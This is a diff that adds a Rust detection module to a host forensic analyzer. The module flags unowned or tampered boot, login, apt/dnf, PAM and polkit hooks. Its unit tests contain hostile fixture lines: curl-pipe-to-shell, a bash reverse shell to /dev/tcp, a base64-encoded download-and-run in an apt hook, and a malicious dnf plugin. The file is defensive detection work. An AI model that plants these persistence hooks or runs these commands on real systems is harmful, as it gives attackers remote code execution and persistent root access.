@@ -1,0 +1,783 @@
+//! Boot, login, package-manager and authentication hooks (rc scripts, profiles, udev, apt/dpkg, PAM, polkit).
+
+use super::common::*;
+use super::content::*;
+use crate::config::AnalysisConfig;
+use crate::context::{At, Ctx, program};
+use crate::input::BundleInput;
+use dossier_plugin_api::analysis::{Evidence, Finding, Ioc};
+
+/// How a file stands against the package database: `Some(why)` when it is not owned or was
+/// modified, `None` when owned and unchanged (or not verifiable).
+pub(crate) fn ownership_problem(ctx: &Ctx, path: &str) -> Option<String> {
+    match ctx.verified(path) {
+        Some(v) if v.rec.status == "not_owned" => Some("no package owns it".into()),
+        Some(v) if v.rec.status == "mismatch" => Some(format!(
+            "it differs from the digest of package {}",
+            v.rec.package.as_deref().unwrap_or("?")
+        )),
+        Some(_) => None,
+        None => (!ctx.is_owned(path)).then(|| "no package owns it".into()),
+    }
+}
+
+pub(crate) fn hook_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
+    ctx.ev(
+        h,
+        format!("{} hook {}", h.rec.class, h.rec.path),
+        h.rec.source.as_ref(),
+    )
+}
+
+pub(crate) fn hook_iocs(h: &dossier_plugin_api::records::HookRecord) -> Vec<Ioc> {
+    let mut v = vec![Ioc::Path(h.path.clone())];
+    v.extend(
+        h.source
+            .as_ref()
+            .and_then(|s| s.sha256.clone())
+            .map(Ioc::Sha256),
+    );
+    v
+}
+
+pub(crate) const LOGIN_CLASSES: &[&str] = &["profile", "profile.d", "bash.bashrc"];
+
+/// Hook classes judged by their own rules (pkg-manager-hook, pam-*, polkit-rule-unowned),
+/// not by boot-hook-unowned.
+pub(crate) const PKG_AUTH_CLASSES: &[&str] = &[
+    "apt",
+    "yum-plugin",
+    "dnf-plugin",
+    "pam",
+    "pam-module",
+    "polkit",
+];
+
+pub(crate) fn hook_ownership(ctx: &Ctx, login: bool) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx.hooks.iter().filter(|h| {
+        h.rec.active
+            && h.rec.owner.is_none()
+            && LOGIN_CLASSES.contains(&h.rec.class.as_str()) == login
+            && !PKG_AUTH_CLASSES.contains(&h.rec.class.as_str())
+    }) {
+        let judged = match (&h.rec.link_target, h.rec.class.as_str()) {
+            (Some(t), "rc-link") => {
+                let real = rc_link_target(&h.rec.path, t);
+                if real.starts_with("/etc/init.d/") {
+                    continue; // the init script is judged itself
+                }
+                real
+            }
+            _ => h.rec.path.clone(),
+        };
+        // An identical copy of a packaged template (Debian's /etc/profile) is as good as
+        // owned, provided the template itself is.
+        if let Some(t) = &h.rec.copy_of {
+            if ownership_problem(ctx, t).is_none() {
+                continue;
+            }
+        }
+        let Some(why) = ownership_problem(ctx, &judged) else {
+            continue;
+        };
+        let what = if judged == h.rec.path {
+            h.rec.path.clone()
+        } else {
+            format!("{} (-> {judged})", h.rec.path)
+        };
+        out.push(finding(
+            &h.rec.path,
+            format!(
+                "{} hook {what}, run at {}: {why}",
+                h.rec.class, h.rec.runs_at
+            ),
+            hook_ev(ctx, h),
+            hook_iocs(&h.rec),
+        ));
+    }
+    out
+}
+
+pub(crate) fn boot_hook_unowned(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    hook_ownership(ctx, false)
+}
+
+pub(crate) fn login_hook_unowned(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    hook_ownership(ctx, true)
+}
+
+pub(crate) fn hook_malicious_content(
+    ctx: &Ctx,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
+        let Some(src) = &h.rec.source else { continue };
+        let Some(member) = &src.member else { continue };
+        if h.rec.owner.is_none()
+            && ctx
+                .verified(&h.rec.path)
+                .is_some_and(|v| v.rec.status == "ok")
+        {
+            continue;
+        }
+        let Ok(data) = (input.read_member)(member, cfg.max_scan_bytes.min(16 << 20)) else {
+            continue;
+        };
+        let text = String::from_utf8_lossy(&data);
+        // One finding per file: the first dangerous line, with the count of the others.
+        let mut hits: Vec<(usize, &str, String)> = text
+            .lines()
+            .enumerate()
+            .filter_map(|(i, l)| hook_line_pattern(l).map(|why| (i + 1, l.trim(), why)))
+            .collect();
+        // Commands parsed out of apt and PAM syntax (an apt list item may span lines; a
+        // pam_exec program is dangerous by where it lives).
+        if hits.is_empty() {
+            hits.extend(h.rec.commands.iter().filter_map(|c| {
+                let why = command_pattern(c)?;
+                let lineno = text
+                    .lines()
+                    .position(|l| l.contains(c.lines().next().unwrap_or(c)))
+                    .map_or(0, |i| i + 1);
+                Some((lineno, c.as_str(), why))
+            }));
+        }
+        let Some((lineno, line, why)) = hits.first() else {
+            continue;
+        };
+        let shown: String = line.chars().take(300).collect();
+        let more = if hits.len() > 1 {
+            format!(" ({} more such lines)", hits.len() - 1)
+        } else {
+            String::new()
+        };
+        let mut iocs = hook_iocs(&h.rec);
+        iocs.push(Ioc::ConfigLine(shown.clone()));
+        out.push(finding(
+            format!("{}:{lineno}", h.rec.path),
+            format!(
+                "{} hook {} (run at {}{}) line {lineno} {why}: `{shown}`{more}",
+                h.rec.class,
+                h.rec.path,
+                h.rec.runs_at,
+                h.rec
+                    .owner
+                    .as_deref()
+                    .map(|o| format!(" for {o}"))
+                    .unwrap_or_default()
+            ),
+            hook_ev(ctx, h),
+            iocs,
+        ));
+    }
+    out
+}
+
+pub(crate) fn pkg_manager_hook(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
+        let what = match h.rec.class.as_str() {
+            "apt" => {
+                if h.rec.commands.iter().all(|c| housekeeping(c)) {
+                    continue;
+                }
+                format!(
+                    "apt configuration {} makes apt run {} as root",
+                    h.rec.path,
+                    h.rec
+                        .commands
+                        .iter()
+                        .map(|c| format!("`{}`", c.chars().take(200).collect::<String>()))
+                        .collect::<Vec<_>>()
+                        .join(", ")
+                )
+            }
+            "yum-plugin" | "dnf-plugin" if h.rec.path.ends_with(".py") => format!(
+                "enabled {} code {} runs inside every {} run as root",
+                h.rec.class,
+                h.rec.path,
+                h.rec.class.trim_end_matches("-plugin")
+            ),
+            _ => continue,
+        };
+        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
+            continue;
+        };
+        let mut iocs = hook_iocs(&h.rec);
+        iocs.extend(
+            h.rec
+                .commands
+                .iter()
+                .flat_map(|c| segment_programs(c))
+                .filter(|p| !ctx.is_owned(p))
+                .map(Ioc::Path),
+        );
+        out.push(finding(
+            &h.rec.path,
+            format!("{what}: {why}"),
+            hook_ev(ctx, h),
+            iocs,
+        ));
+    }
+    out
+}
+
+pub(crate) fn pam_exec_hook(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx
+        .hooks
+        .iter()
+        .filter(|h| h.rec.active && h.rec.class == "pam" && !h.rec.commands.is_empty())
+    {
+        if ctx
+            .verified(&h.rec.path)
+            .is_some_and(|v| v.rec.status == "ok")
+        {
+            continue;
+        }
+        let mut iocs = hook_iocs(&h.rec);
+        let mut notes = Vec::new();
+        for c in &h.rec.commands {
+            let Some(p) = program(c) else {
+                notes.push(format!("`{c}`"));
+                continue;
+            };
+            let mut why = Vec::new();
+            if let Some(u) = unusual_location(&p) {
+                why.push(u);
+            }
+            if ctx.has_package_db && !ctx.is_owned(&p) {
+                why.push("no package owns it".into());
+            }
+            notes.push(if why.is_empty() {
+                format!("`{c}`")
+            } else {
+                format!("`{c}` ({})", why.join(", "))
+            });
+            iocs.push(Ioc::Path(p));
+        }
+        let file = ctx
+            .has_package_db
+            .then(|| ownership_problem(ctx, &h.rec.path))
+            .flatten()
+            .map(|w| format!("; the service file: {w}"))
+            .unwrap_or_default();
+        out.push(finding(
+            &h.rec.path,
+            format!(
+                "PAM service {} runs {} through pam_exec at every authentication{file}",
+                h.rec.path,
+                notes.join(", ")
+            ),
+            hook_ev(ctx, h),
+            iocs,
+        ));
+    }
+    out
+}
+
+/// Evidence for a record plus the PAM service files that load it.
+pub(crate) fn pam_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
+    let mut ev = ctx.ev(h, format!("pam-module {}", h.rec.path), None);
+    if let Some(v) = ctx.verified(&h.rec.path) {
+        ev.extend(ctx.ev(
+            v,
+            format!("package verification of {}", h.rec.path),
+            v.rec.copy.as_ref(),
+        ));
+    }
+    let files: Vec<&str> = h
+        .rec
+        .referenced_by
+        .iter()
+        .filter_map(|r| r.rsplit_once(':').map(|(f, _)| f))
+        .collect();
+    for s in ctx
+        .hooks
+        .iter()
+        .filter(|s| s.rec.class == "pam" && files.contains(&s.rec.path.as_str()))
+    {
+        ev.extend(hook_ev(ctx, s));
+    }
+    ev
+}
+
+pub(crate) fn pam_module_unowned(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx
+        .hooks
+        .iter()
+        .filter(|h| h.rec.active && h.rec.class == "pam-module" && h.rec.meta.is_some())
+    {
+        // Verification follows a linked module to the file it loads.
+        let judged = match &h.rec.link_target {
+            Some(t) => rc_link_target(&h.rec.path, t),
+            None => h.rec.path.clone(),
+        };
+        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
+            continue;
+        };
+        let place = unusual_location(&judged)
+            .map(|u| format!("; {u}"))
+            .unwrap_or_default();
+        let mut iocs = vec![Ioc::Path(h.rec.path.clone())];
+        if let Some(sha) = ctx.verified(&h.rec.path).and_then(|v| v.rec.sha256.clone()) {
+            iocs.push(Ioc::Sha256(sha));
+        }
+        out.push(finding(
+            &h.rec.path,
+            format!(
+                "PAM module {} loaded by {}: {why}{place}",
+                h.rec.path,
+                h.rec.referenced_by.join(", ")
+            ),
+            pam_ev(ctx, h),
+            iocs,
+        ));
+    }
+    out
+}
+
+pub(crate) fn polkit_rule_unowned(
+    ctx: &Ctx,
+    _: &AnalysisConfig,
+    _: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx
+        .hooks
+        .iter()
+        .filter(|h| h.rec.active && h.rec.class == "polkit" && !h.rec.grants.is_empty())
+    {
+        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
+            continue;
+        };
+        out.push(finding(
+            &h.rec.path,
+            format!(
+                "polkit rule {} grants {} without authentication: {why}",
+                h.rec.path,
+                h.rec.grants.join("; ")
+            ),
+            hook_ev(ctx, h),
+            hook_iocs(&h.rec),
+        ));
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::config::AnalysisConfig;
+    use crate::engine::analyze;
+    use crate::testkit::input;
+    use serde_json::json;
+
+    #[test]
+    fn hook_rules() {
+        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
+            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "boot", "active": true,
+                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            (line, v)
+        };
+        let hooks = vec![
+            hook(1, "/etc/init.d/cron", "init.d", json!({})),
+            hook(
+                2,
+                "/etc/rc2.d/S01cron",
+                "rc-link",
+                json!({"link_target": "../init.d/cron", "source": null}),
+            ),
+            hook(3, "/etc/init.d/kmod-static", "init.d", json!({})),
+            hook(4, "/etc/profile.d/vte.sh", "profile.d", json!({})),
+            hook(
+                5,
+                "/home/alice/.bashrc",
+                "user-shell-rc",
+                json!({"owner": "alice"}),
+            ),
+            hook(6, "/etc/init.d/README", "init.d", json!({"active": false})),
+            // Debian's /etc/profile: an identical copy of base-files' packaged template.
+            hook(
+                7,
+                "/etc/profile",
+                "profile",
+                json!({"copy_of": "/usr/share/base-files/profile"}),
+            ),
+            // A claimed template that no package owns proves nothing.
+            hook(
+                8,
+                "/etc/bash.bashrc",
+                "bash.bashrc",
+                json!({"copy_of": "/usr/share/nowhere/bashrc"}),
+            ),
+        ];
+        let verify = |line: usize, path: &str, status: &str| {
+            (
+                line,
+                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"]}),
+            )
+        };
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "cron", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "cron", "files": ["/etc/init.d/cron", "/etc/profile.d/vte.sh", "/usr/share/base-files/profile"], "source": {"path": "x"}}),
+            ),
+            verify(3, "/etc/init.d/cron", "ok"),
+            verify(4, "/etc/init.d/kmod-static", "not_owned"),
+            verify(5, "/etc/profile.d/vte.sh", "mismatch"),
+        ];
+        let gens = vec![(
+            1,
+            json!({"kind": "systemd_generator", "path": "/etc/systemd/system-generators/netd", "scope": "system", "dir": "/etc/systemd/system-generators",
+                "meta": {"kind": "file", "mode": 493, "uid": 0, "gid": 0, "size": 10}}),
+        )];
+        let records = [
+            ("hooks".to_string(), hooks),
+            ("packages".to_string(), packages),
+            ("systemd".to_string(), gens),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = |m: &str, _: u64| match m {
+            "raw/etc/init.d/cron" => Ok(b"curl http://x | sh\n".to_vec()),
+            "raw/etc/init.d/kmod-static" => {
+                Ok(b"#!/bin/sh\n# curl x | sh\nnohup /usr/lib/kmodd >/dev/null 2>&1 &\n".to_vec())
+            }
+            "raw/home/alice/.bashrc" => {
+                Ok(b"alias ll='ls -l'\n(bash -i >& /dev/tcp/1.2.3.4/443 0>&1 &)\n".to_vec())
+            }
+            "raw/etc/init.d/README" => Ok(b"curl x | sh\n".to_vec()),
+            _ => Ok(b"PS1='$ '\n".to_vec()),
+        };
+        let mut inp = input(records, &mut read);
+        let a = analyze(&mut inp, &AnalysisConfig::default());
+        let subjects = |rule: &str| -> Vec<String> {
+            a.findings
+                .iter()
+                .filter(|f| f.rule == rule)
+                .map(|f| f.subject.clone())
+                .collect()
+        };
+        assert_eq!(subjects("boot-hook-unowned"), ["/etc/init.d/kmod-static"]);
+        assert_eq!(
+            subjects("login-hook-unowned"),
+            ["/etc/bash.bashrc", "/etc/profile.d/vte.sh"]
+        );
+        // The packaged, unchanged cron script is not read; the inactive README is not judged.
+        assert_eq!(
+            subjects("hook-malicious-content"),
+            ["/etc/init.d/kmod-static:3", "/home/alice/.bashrc:2"]
+        );
+        assert_eq!(
+            subjects("generator-unowned"),
+            ["/etc/systemd/system-generators/netd"]
+        );
+        assert!(!a.hits.iter().any(|h| h.rule == "exec-unowned"));
+    }
+
+    #[test]
+    fn package_manager_and_auth_hook_rules() {
+        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
+            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "package-operation", "active": true,
+                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            (line, v)
+        };
+        let meta = json!({"kind": "file", "mode": 420, "uid": 0, "gid": 0, "size": 10});
+        let families: Vec<(&str, Vec<(usize, serde_json::Value)>)> = vec![
+            (
+                "apt",
+                vec![
+                    // Intruder: base64 payload after every index update, in a file no package owns.
+                    hook(
+                        1,
+                        "/etc/apt/apt.conf.d/99-apt-fast-update",
+                        "apt",
+                        json!({"commands": ["echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh"]}),
+                    ),
+                    // Debian's own (owned, unchanged) and docker's housekeeping (unowned).
+                    hook(
+                        2,
+                        "/etc/apt/apt.conf.d/70debconf",
+                        "apt",
+                        json!({"commands": ["/usr/sbin/dpkg-preconfigure --apt || true"]}),
+                    ),
+                    hook(
+                        3,
+                        "/etc/apt/apt.conf.d/docker-clean",
+                        "apt",
+                        json!({"commands": ["rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"]}),
+                    ),
+                    hook(4, "/etc/apt/apt.conf.d/01autoremove", "apt", json!({})),
+                    hook(
+                        5,
+                        "/etc/apt/apt.conf.d/50old.bak",
+                        "apt",
+                        json!({"active": false, "commands": ["curl http://x | sh"]}),
+                    ),
+                ],
+            ),
+            (
+                "pam",
+                vec![
+                    hook(
+                        6,
+                        "/etc/pam.d/common-auth",
+                        "pam",
+                        json!({"runs_at": "authentication"}),
+                    ),
+                    hook(
+                        7,
+                        "/etc/pam.d/sshd",
+                        "pam",
+                        json!({"runs_at": "authentication",
+                    "commands": ["/usr/lib/x86_64-linux-gnu/security/pam_sss_helper"]}),
+                    ),
+                    hook(
+                        8,
+                        "/lib/x86_64-linux-gnu/security/pam_unix.so",
+                        "pam-module",
+                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:1"]}),
+                    ),
+                    hook(
+                        9,
+                        "/lib/x86_64-linux-gnu/security/pam_unix2.so",
+                        "pam-module",
+                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:3"]}),
+                    ),
+                    hook(
+                        10,
+                        "pam_gone.so",
+                        "pam-module",
+                        json!({"source": null, "active": false, "referenced_by": ["/etc/pam.d/sshd:9"]}),
+                    ),
+                ],
+            ),
+            (
+                "polkit",
+                vec![
+                    hook(
+                        11,
+                        "/etc/polkit-1/rules.d/49-svc.rules",
+                        "polkit",
+                        json!({"grants": ["YES for user svc-backup on any action (line 3)"]}),
+                    ),
+                    hook(
+                        12,
+                        "/etc/polkit-1/rules.d/50-admins.rules",
+                        "polkit",
+                        json!({}),
+                    ),
+                ],
+            ),
+            (
+                "dnf",
+                vec![
+                    hook(
+                        13,
+                        "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
+                        "dnf-plugin",
+                        json!({}),
+                    ),
+                    hook(
+                        14,
+                        "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
+                        "dnf-plugin",
+                        json!({}),
+                    ),
+                ],
+            ),
+        ];
+        let verify = |line: usize, path: &str, status: &str| {
+            (
+                line,
+                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"], "sha256": "e".repeat(64)}),
+            )
+        };
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "libpam-modules", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "libpam-modules",
+                "files": ["/lib/x86_64-linux-gnu/security/pam_unix.so", "/etc/apt/apt.conf.d/70debconf", "/etc/apt/apt.conf.d/01autoremove",
+                          "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py"], "source": {"path": "x"}}),
+            ),
+            verify(3, "/etc/apt/apt.conf.d/99-apt-fast-update", "not_owned"),
+            verify(4, "/etc/apt/apt.conf.d/70debconf", "ok"),
+            verify(5, "/etc/apt/apt.conf.d/docker-clean", "not_owned"),
+            verify(6, "/etc/pam.d/common-auth", "not_owned"),
+            verify(7, "/etc/pam.d/sshd", "mismatch"),
+            verify(8, "/lib/x86_64-linux-gnu/security/pam_unix.so", "ok"),
+            verify(
+                9,
+                "/lib/x86_64-linux-gnu/security/pam_unix2.so",
+                "not_owned",
+            ),
+            verify(10, "/etc/polkit-1/rules.d/49-svc.rules", "not_owned"),
+            verify(11, "/etc/polkit-1/rules.d/50-admins.rules", "not_owned"),
+            verify(
+                12,
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
+                "not_owned",
+            ),
+            verify(
+                13,
+                "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
+                "ok",
+            ),
+            verify(14, "/etc/pam.d/vendor-ok", "ok"),
+        ];
+        let run = |hooks: Vec<(usize, serde_json::Value)>| {
+            let records = [
+                ("hooks".to_string(), hooks),
+                ("packages".to_string(), packages.clone()),
+            ]
+            .into_iter()
+            .collect();
+            let mut read = |m: &str, _: u64| {
+                match m {
+                "raw/etc/apt/apt.conf.d/99-apt-fast-update" => Ok(b"APT::Update::Post-Invoke {\n  \"echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh\";\n};\n".to_vec()),
+                "raw/etc/apt/apt.conf.d/docker-clean" => Ok(b"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n".to_vec()),
+                "raw/etc/pam.d/sshd" => Ok(b"@include common-auth\nsession optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/pam_sss_helper\n".to_vec()),
+                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_unix2.so\n".to_vec()),
+                "raw/etc/polkit-1/rules.d/49-svc.rules" => Ok(b"polkit.addRule(function(action, subject) {\n if (subject.user == \"svc-backup\") { return polkit.Result.YES; }\n});\n".to_vec()),
+                "raw/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py" => Ok(b"import dnf, os\nclass S(dnf.Plugin):\n    def transaction(self):\n        os.system(\"wget -qO- http://x/p | sh\")\n".to_vec()),
+                _ => Ok(b"# nothing\n".to_vec()),
+            }
+            };
+            let mut inp = input(records, &mut read);
+            analyze(&mut inp, &AnalysisConfig::default())
+        };
+        let all: Vec<(usize, serde_json::Value)> =
+            families.iter().flat_map(|(_, h)| h.clone()).collect();
+        let a = run(all);
+        let subjects = |rule: &str| -> Vec<String> {
+            a.findings
+                .iter()
+                .filter(|f| f.rule == rule)
+                .map(|f| f.subject.clone())
+                .collect()
+        };
+        assert_eq!(
+            subjects("pkg-manager-hook"),
+            [
+                "/etc/apt/apt.conf.d/99-apt-fast-update",
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py"
+            ]
+        );
+        assert_eq!(subjects("pam-exec-hook"), ["/etc/pam.d/sshd"]);
+        assert_eq!(
+            subjects("pam-module-unowned"),
+            ["/lib/x86_64-linux-gnu/security/pam_unix2.so"]
+        );
+        assert_eq!(
+            subjects("polkit-rule-unowned"),
+            ["/etc/polkit-1/rules.d/49-svc.rules"]
+        );
+        assert_eq!(
+            subjects("hook-malicious-content"),
+            [
+                "/etc/apt/apt.conf.d/99-apt-fast-update:2",
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py:4"
+            ]
+        );
+        // None of them is judged as a boot hook as well.
+        assert!(subjects("boot-hook-unowned").is_empty());
+        let f = |rule: &str| a.findings.iter().find(|f| f.rule == rule).unwrap();
+        assert!(
+            f("pam-exec-hook")
+                .explanation
+                .contains("no package owns it")
+        );
+        assert!(
+            f("pam-module-unowned")
+                .explanation
+                .contains("/etc/pam.d/common-auth:3")
+        );
+        // The module's evidence includes the service file that loads it.
+        assert!(
+            f("pam-module-unowned")
+                .evidence
+                .iter()
+                .any(|e| e.member == "raw/etc/pam.d/common-auth")
+        );
+        assert!(f("pkg-manager-hook").explanation.contains("base64 -d"));
+        for rule in [
+            "pkg-manager-hook",
+            "pam-exec-hook",
+            "pam-module-unowned",
+            "polkit-rule-unowned",
+        ] {
+            let h = a.hits.iter().find(|h| h.rule == rule).unwrap();
+            let info = crate::rules::CATALOG.iter().find(|r| r.id == rule).unwrap();
+            assert_eq!(
+                h.mitre,
+                info.mitre.iter().map(|m| m.to_string()).collect::<Vec<_>>()
+            );
+        }
+        // Each family alone takes the host to at least Suspicious.
+        for (name, hooks) in &families {
+            let a = run(hooks.clone());
+            assert!(a.score >= 30, "{name}: {} {:?}", a.score, a.hits);
+        }
+        // pam_exec in a package's unchanged service file is the package's own; in any other
+        // service file it is reported, package database or not.
+        let a = run(vec![
+            hook(
+                1,
+                "/etc/pam.d/vendor-ok",
+                "pam",
+                json!({"commands": ["/usr/bin/logger x"]}),
+            ),
+            hook(
+                2,
+                "/etc/pam.d/login",
+                "pam",
+                json!({"commands": ["/usr/bin/logger y"]}),
+            ),
+        ]);
+        let pe: Vec<&str> = a
+            .findings
+            .iter()
+            .filter(|f| f.rule == "pam-exec-hook")
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(pe, ["/etc/pam.d/login"]);
+    }
+}
